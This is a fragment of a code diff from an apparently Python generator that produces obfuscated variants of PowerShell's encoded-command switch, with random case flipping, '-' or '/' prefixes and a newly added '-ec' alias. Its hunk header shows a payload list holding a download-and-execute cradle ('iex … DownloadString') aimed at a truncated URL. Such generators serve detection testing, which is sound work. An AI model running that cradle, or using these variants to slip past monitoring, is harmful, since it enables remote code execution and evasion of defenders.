@@ -23,7 +23,7 @@ PAYLOADS = ["echo bee", "iex (New-Object Net.WebClient).DownloadString('http://e
 
 def enc_switch(r) -> bytes:
     n = r.randint(1, len(ENC_WORD))
-    word = ENC_WORD[:n]
+    word = ENC_WORD[:n] if r.random() < 0.9 else b"ec"  # -ec is the documented alias
     if r.random() < 0.3:
         word = bytes(c ^ 0x20 if r.random() < 0.5 else c for c in word)
     style = r.choice([b"-", b"/"])
